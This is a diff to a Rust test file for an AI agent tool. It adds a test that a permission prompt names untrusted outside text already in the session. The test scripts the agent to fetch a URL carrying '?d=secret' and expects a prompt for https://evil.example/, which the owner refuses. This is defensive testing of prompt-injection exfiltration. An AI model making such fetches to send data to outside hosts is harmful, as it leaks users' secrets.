@@ -5,7 +5,7 @@ use serde_json::{Value, json};
 use crate::laundering::{may_fetch, noted, turn};
 use crate::terminal::Terminal;
 use crate::trust::with_terminal;
-use crate::web::{Site, answer, fetch, named, world};
+use crate::web::{Site, answer, fetch, named, script, world};
 use crate::world::{World, text};
 
 /// What `/trust` with these arguments says in a session.
@@ -104,4 +104,17 @@ fn s3_the_whole_text_is_shown_before_the_owner_answers_for_it() {
     terminal.types("n\r");
     assert_eq!(terminal.ended(), Some(4));
     assert!(all(&trust(&world, "first", "")).contains(page.as_str()));
+}
+
+#[test]
+fn s14_a_question_in_sight_of_a_text_from_outside_names_it() {
+    let (site, world) = noted();
+    let page = &taints(&trust(&world, "first", ""))[0].0;
+    script(&world, &[&[fetch(&site.url("/made-up?d=secret"))]]);
+    let project = text(&world.path("project"));
+    let command = world.command(&["--workspace", &project, "chat", "--session", "first", "-m", "Go on."]);
+    let mut terminal = Terminal::start(with_terminal(&command));
+    terminal.shows(&format!("text from outside: {page}, web_fetch: Fetch https://evil.example/"));
+    terminal.types("n\r");
+    assert_eq!(terminal.ended(), Some(0));
 }
